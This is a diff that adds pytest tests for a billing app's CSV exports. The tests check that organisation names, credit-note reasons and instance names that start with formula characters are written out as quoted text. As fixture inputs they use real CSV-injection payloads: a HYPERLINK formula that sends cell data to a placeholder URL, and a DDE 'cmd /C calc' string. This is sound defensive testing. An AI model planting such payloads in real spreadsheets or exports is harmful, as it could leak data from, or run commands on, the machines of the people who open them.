@@ -297,3 +297,31 @@ def test_the_page_lists_the_20_most_expensive_instances_and_the_csv_all_of_them(
     csv_response = client.get(reverse("billing:usage_csv", args=["acme"]))
     rows = list(csv.reader(io.StringIO(b"".join(csv_response.streaming_content).decode())))
     assert {row[0] for row in rows[1:]} == set(names)
+
+
+def test_the_invoice_csv_writes_a_formula_in_the_name_or_a_reason_as_text(
+    team, usage, clock, client_for
+):
+    """An organization name or a credit-note reason never runs in the customer's spreadsheet."""
+    formula = '=HYPERLINK("http://x/?"&A1,"Pay")'
+    team.organization.name = formula
+    team.organization.save(update_fields=["name"])
+    clock.set("2026-04-01 02:00:00")
+    issued = services.invoice_issue(organization=team.organization, month=MARCH)
+    services.credit_note_issue(invoice=issued, amount="1.00", reason="@SUM(A1:A9)", by=None)
+    text = client_for(team.owner.user).get(reverse("billing:invoice_csv", args=["acme", issued.pk]))
+    rows = list(csv.reader(io.StringIO(text.content.decode())))
+    assert ["customer", "'" + formula] in rows
+    [note] = [row for row in rows if row and row[0].startswith("credit note")]
+    assert note[2] == "'@SUM(A1:A9)"
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]
+
+
+def test_the_usage_csv_writes_a_formula_in_an_instance_name_as_text(team, usage, client_for):
+    usage["trainer"].name = "=cmd|' /C calc'!A0"
+    usage["trainer"].save(update_fields=["name"])
+    response = client_for(team.owner.user).get(reverse("billing:usage_csv", args=["acme"]))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert "'=cmd|' /C calc'!A0" in {row[0] for row in rows}
+    assert "=cmd|' /C calc'!A0" not in {row[0] for row in rows}
